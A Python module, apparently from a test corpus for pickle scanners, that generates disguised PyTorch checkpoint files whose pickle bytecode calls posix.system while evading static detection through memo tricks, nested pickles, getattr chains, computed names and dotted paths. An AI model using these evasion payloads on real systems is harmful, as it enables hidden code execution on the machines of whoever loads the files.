"""Calls of posix.system whose name is hidden from those who read names without running the pickle machine."""

import pickle

from attacks.assemble import Code, called, get, named, put, text, value, whole
from attacks.record import SHELL, HostileFile
from attacks.sound import beside_weights, checkpoint, weights

GROUP = "disguises"
STACK_GLOBAL = pickle.STACK_GLOBAL
COMMAND = text(SHELL) + b"\x85R"
SYSTEM = ("posix.system",)


def file(name, about, code, runs=SYSTEM, *, proof=True, protocol=4):
    return HostileFile(f"disguise_{name}.pt", GROUP, about, beside_weights(code, protocol), runs, proof)


def through_the_memo():
    """Names that stand elsewhere than before the opcode that uses them."""
    posix, system = text("posix"), text("system")
    kept = posix + put(7000) + b"0" + system + put(7001) + b"0"
    return [
        file("memo", "Both names come from the memo.", Code(kept + get(7000) + get(7001) + STACK_GLOBAL + COMMAND)),
        file(
            "memo_mixed",
            "MEMOIZE and BINPUT number differently: who counts wrongly reads innocent names.",
            mixed_memo(),
        ),
        file(
            "memo_replaced",
            "An innocent name in the memo is replaced by another.",
            Code(text("collections") + put(7000) + b"0" + kept + get(7000) + get(7001) + STACK_GLOBAL + COMMAND),
        ),
        file(
            "memo_decoy",
            "PUT after an opcode that left nothing: its argument is not what is kept.",
            Code(
                posix
                + text("collections")
                + b"0"
                + put(7000)
                + b"0"
                + system
                + text("OrderedDict")
                + b"0"
                + put(7001)
                + b"0"
                + get(7000)
                + get(7001)
                + STACK_GLOBAL
                + COMMAND
            ),
        ),
        file(
            "memo_far_text",
            "GET of numbers in text.",
            Code(posix + b"p7000\n0" + system + b"p7001\n0g7000\ng7001\n" + STACK_GLOBAL + COMMAND),
        ),
        file(
            "popped_decoys",
            "Innocent names are pushed and dropped between the true ones.",
            Code(posix + text("collections") + b"0" + system + text("OrderedDict") + b"0" + STACK_GLOBAL + COMMAND),
        ),
        file(
            "popped_marks",
            "The same with marks.",
            Code(
                posix
                + b"("
                + text("collections")
                + b"1"
                + system
                + b"("
                + text("OrderedDict")
                + b"1"
                + STACK_GLOBAL
                + COMMAND
            ),
        ),
        file(
            "duplicated",
            "One name serves as module and name.",
            Code(text("copy") + b"2" + STACK_GLOBAL + b"0" + posix + system + b"20" + STACK_GLOBAL + COMMAND),
            ("posix.system", "copy.copy"),
        ),
        file(
            "misleading_frame",
            "The names stand in a frame that ends between them.",
            Code(b"\x95\x0a\0\0\0\0\0\0\0" + posix + system + STACK_GLOBAL + COMMAND),
        ),
    ]


def mixed_memo():
    """Known from an issue of picklescan: PUT and MEMOIZE in one pickle."""
    return Code(
        text("posix")
        + put(8000)
        + b"0"
        + text("system")
        + put(8001)
        + b"0"
        + text("torch._utils")
        + b"\x940"
        + text("_rebuild_tensor_v2")
        + b"\x940"
        + get(8000)
        + get(8001)
        + STACK_GLOBAL
        + COMMAND
    )


def after_gaps():
    """MEMOIZE numbers by how many values the memo holds: after a gap it replaces one that stands there."""

    def decoy(innocent, true, number):
        return text(innocent) + b"q" + bytes([number]) + b"0" + text(true) + b"\x940"

    names = Code(decoy("collections", "posix", 1) + decoy("OrderedDict", "system", 2))
    by_name = Code(names + b"h\1h\2" + STACK_GLOBAL + COMMAND)
    by_value = Code(named("collections:OrderedDict") + b"q\0010" + named("posix:system") + b"\x940h\1" + COMMAND)
    return [
        HostileFile(
            f"disguise_gap_{word}.pt",
            GROUP,
            about,
            checkpoint(b"\x80\4" + code + b"0" + weights() + b"."),
            SYSTEM,
            True,
        )
        for word, about, code in [
            ("names", "After gaps in the memo, innocent names are replaced.", by_name),
            ("function", "After a gap in the memo, an innocent class is replaced by the function.", by_value),
        ]
    ]


def nested():
    """A pickle inside of the pickle, reached by what PyTorch itself needs."""
    pickled = whole(called("posix:system", SHELL))
    load = named("torch.storage:_load_from_bytes")
    blank = Code(named("argparse:Namespace") + b")" + pickle.NEWOBJ)
    encoded = called("_codecs:encode", pickled.decode("latin1"), "latin1")
    runs = ("torch.storage._load_from_bytes", "posix.system")
    return [
        file("nested_encoded", "Its bytes are the result of a call.", called(load, encoded), runs),
        file(
            "nested_listed",
            "Its bytes are made of a list.",
            called(load, called("builtins:bytes", list(pickled))),
            runs,
        ),
        file(
            "nested_partial",
            "It is loaded by a partial.",
            called(called("functools:partial", load, pickled)),
            (*runs, "functools.partial"),
        ),
        file(
            "nested_setstate",
            "It is the state of an object.",
            Code(blank + value({"__setstate__": load}) + b"b" + value(pickled) + b"b"),
            runs,
        ),
        file(
            "nested_append",
            "It is appended to an object.",
            Code(blank + value({"append": load}) + b"b" + value(pickled) + b"a"),
            runs,
        ),
        file(
            "nested_by_type",
            "It is loaded by the rebuilding of a tensor's type.",
            called(
                "torch._tensor:_rebuild_from_type_v2",
                called("functools:partial", load, pickled),
                named("torch:Tensor"),
                (),
                {},
            ),
            runs,
        ),
    ]


def through_attributes():
    """getattr, by which Python pickles bound methods, from an innocent class to everything."""

    def attribute(thing, name):
        return called("builtins:getattr", thing, name)

    everything = attribute(attribute(named("argparse:Namespace"), "__init__"), "__globals__")
    module = called(attribute(everything, "get"), "_os")
    runs = ("builtins.getattr", "argparse.Namespace.__init__")
    return [
        file(
            "getattr_chain",
            "From a class to the globals of its module.",
            called(attribute(module, "system"), SHELL),
            runs,
        )
    ]


def computed():
    """Names that the pickle computes."""
    joined = called("builtins:str.join", "", ["po", "six"])
    turned = called("_codecs:decode", "cbfvk", "rot13")
    from_bytes = called("builtins:str", b"posix", "ascii")
    formatted = called("builtins:str.format", "{}six", "po")
    return [
        file(
            "joined_name",
            "''.join makes the module's name.",
            Code(joined + text("system") + STACK_GLOBAL + COMMAND),
            ("builtins.str.join",),
        ),
        file(
            "rot13_name",
            "codecs.decode makes it.",
            Code(turned + text("system") + STACK_GLOBAL + COMMAND),
            ("_codecs.decode",),
        ),
        file(
            "bytes_name",
            "str(b'posix', 'ascii') makes it.",
            Code(from_bytes + text("system") + STACK_GLOBAL + COMMAND),
            ("builtins.str",),
        ),
        file(
            "formatted_name",
            "str.format makes it.",
            Code(formatted + text("system") + STACK_GLOBAL + COMMAND),
            ("builtins.str.format",),
        ),
    ]


def spelled_otherwise():
    """The same names in other letters."""
    python2 = [
        ("commands:getoutput", ("subprocess.getoutput", "commands.getoutput"), True),
        ("__builtin__:eval", ("builtins.eval", "__builtin__.eval"), False),
    ]
    shell = SHELL.encode()
    return [
        file("escaped_string", "STRING with escapes.", Code(b"S'po\\x73ix'\nS'sys\\164em'\n" + STACK_GLOBAL + COMMAND)),
        file(
            "escaped_unicode", "UNICODE with escapes.", Code(b"V\\u0070osix\nVsyste\\u006d\n" + STACK_GLOBAL + COMMAND)
        ),
        file("binstring", "BINSTRING.", Code(b"T\5\0\0\0posixU\6system" + STACK_GLOBAL + COMMAND)),
        file(
            "long_lengths",
            "BINUNICODE8.",
            Code(b"\x8d\5\0\0\0\0\0\0\0posix\x8d\6\0\0\0\0\0\0\0system" + STACK_GLOBAL + COMMAND),
        ),
        *[
            file(
                path.replace(":", "_").strip("_"),
                "A name of Python 2, which Python 3 translates.",
                called(path, SHELL),
                runs,
                proof=proof,
                protocol=2,
            )
            for path, runs, proof in python2
        ],
        file(
            "argument_in_pieces",
            "The command is computed, not the name.",
            Code(named("posix:system") + called("builtins:str.join", " ", ["touch", "TAPER_CANARY"]) + b"\x85R"),
            ("posix.system", "builtins.str.join"),
        ),
        file(
            "storage_in_the_name",
            "A name with 'Storage' in it, which PyTorch looks at first.",
            Code(
                named("posix:system")
                + b"(X"
                + len(shell).to_bytes(4, "little")
                + shell
                + b"t"
                + b"R0"
                + named("torch:FloatStorage")
            ),
        ),
    ]


def dotted():
    """From protocol 4 on, a name may have dots: innocent modules hold dangerous ones."""
    paths = [
        "torch.serialization:os.system",
        "torch._utils:sys.modules",
        "argparse:_os.system",
        "pathlib:os.system",
        "collections:_sys.modules",
        "numpy:os.system",
        "torch:os.system",
        "functools:partial.__class__",
        "datetime:sys.modules",
        "torch._utils:_rebuild_tensor_v2.__globals__",
        "collections:OrderedDict.__init__.__class__",
    ]
    return [dotted_file(path) for path in paths]


def dotted_file(path):
    """Through dots to system, or to a dict of modules from which it is taken."""
    dotted_name = path.replace(":", ".")
    word = dotted_name.replace(".", "_").strip("_")
    if path.endswith("system"):
        return file(
            f"dotted_{word}", f"Calls {dotted_name}.", called(path, SHELL), (dotted_name,), proof="numpy" not in path
        )
    if path.endswith(("modules", "globals__")):
        key = "posix" if path.endswith("modules") else "sys"
        module = called(f"{path}.get", key)
        code = called(called("builtins:getattr", module, "system" if key == "posix" else "exit"), SHELL)
        return file(
            f"dotted_{word}",
            f"Takes a module out of {dotted_name}.",
            code,
            (f"{dotted_name}.get", "builtins.getattr"),
            proof=key == "posix",
        )
    return file(f"dotted_{word}", f"Reaches for {dotted_name}.", called(path, "x"), (dotted_name,), proof=False)


def patched():
    """Innocent classes whose attributes BUILD sets and which are then read as names (from an issue of modelscan)."""
    set_names = Code(named("argparse:Namespace") + b"(N(Va\nVposix\nVb\nVsystem\ndtb0")
    code = Code(set_names + named("argparse:Namespace.a") + named("argparse:Namespace.b") + STACK_GLOBAL + COMMAND)
    return [
        file(
            "patched_class",
            "Names are kept as attributes of a class.",
            code,
            ("argparse.Namespace.a", "argparse.Namespace", "argparse.Namespace.b"),
        ),
        HostileFile(
            "disguise_only_innocent_names.pt",
            GROUP,
            "Only STACK_GLOBAL over names of innocent length in a pickle without PROTO.",
            checkpoint(text("posix") + text("system") + STACK_GLOBAL + COMMAND + b"."),
            SYSTEM,
            True,
        ),
    ]


def files():
    """Every file of this class."""
    return [
        *through_the_memo(),
        *after_gaps(),
        *nested(),
        *through_attributes(),
        *computed(),
        *spelled_otherwise(),
        *dotted(),
        *patched(),
    ]
